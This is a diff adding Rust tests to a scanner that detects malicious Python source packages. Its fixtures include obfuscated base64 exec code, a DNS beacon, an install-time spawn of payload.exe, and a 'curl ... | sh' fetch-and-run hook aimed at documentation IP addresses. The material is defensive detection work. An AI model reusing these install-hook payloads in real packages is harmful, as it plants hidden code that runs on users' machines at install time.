@@ -213,3 +213,65 @@ fn typosquat_name_with_install_code_is_malicious() {
     let r = scan("djanga-1.0.tar.gz", &gzip(&tar(&files, "djanga-1.0/")));
     assert_eq!(r.verdict, Verdict::Suspicious, "{:#?}", r.findings);
 }
+
+/// An sdist named `demo-1.0` holding `files` (path, source).
+fn sdist(files: &[(&str, &str)]) -> pkgwarden::PackageReport {
+    let mut all = vec![(
+        "PKG-INFO".to_string(),
+        b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n".to_vec(),
+    )];
+    all.extend(
+        files
+            .iter()
+            .map(|(p, s)| (p.to_string(), s.as_bytes().to_vec())),
+    );
+    scan("demo-1.0.tar.gz", &gzip(&tar(&all, "demo-1.0/")))
+}
+
+#[test]
+fn code_hidden_in_decoded_strings_is_analysed() {
+    // `import os; os.system("curl http://192.0.2.5/x -o ~/.x")`, base64 then reversed.
+    let payload = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovLzE5Mi4wLjIuNS94IC1vIH4vLngiKQ==";
+    let reversed: String = payload.chars().rev().collect();
+    let init =
+        format!("import base64\nk = '{reversed}'\nexec(base64.b64decode(eval('k')[::-1]))\n");
+    let r = sdist(&[("demo/__init__.py", &init)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    assert_finding(&r, "exec-decoded", "demo/__init__.py", 3);
+    // The revealed `curl` is reported at the line of the exec that runs it.
+    assert!(
+        r.findings.iter().any(|f| f.rule == "download-at-install"
+            && f.line == 3
+            && f.message.contains("192.0.2.5")),
+        "{:#?}",
+        r.findings
+    );
+}
+
+#[test]
+fn dns_beacon_and_spawns_at_install() {
+    let setup = "import socket, os\nfrom setuptools import setup\nsocket.gethostbyname('probe.example.invalid')\nos.system('start C:/Users/x/payload.exe')\nsetup(name='demo')\n";
+    let r = sdist(&[("setup.py", setup)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    assert_finding(&r, "download-at-install", "setup.py", 3);
+    assert_finding(&r, "install-spawn", "setup.py", 4);
+    // Build steps are not install-time spawns.
+    let setup = "import subprocess\nfrom setuptools import setup\nsubprocess.check_call(['cmake', '..'])\nsubprocess.run(['git', 'describe'])\nsetup(name='demo')\n";
+    let r = sdist(&[("setup.py", setup)]);
+    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+}
+
+#[test]
+fn a_script_started_by_an_install_hook_runs_at_install() {
+    let setup = "import os, sys\nfrom setuptools import setup\nos.system(f'{sys.executable} helper/stage.py')\nsetup(name='demo')\n";
+    let stage = "import os\nos.system('curl -s http://198.51.100.4/p | sh')\n";
+    let r = sdist(&[("setup.py", setup), ("helper/stage.py", stage)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    let f = with_rule(&r, "exec-downloaded");
+    assert!(
+        f.iter()
+            .any(|f| f.file.ends_with("helper/stage.py") && f.phase == Phase::Install),
+        "{:#?}",
+        r.findings
+    );
+}
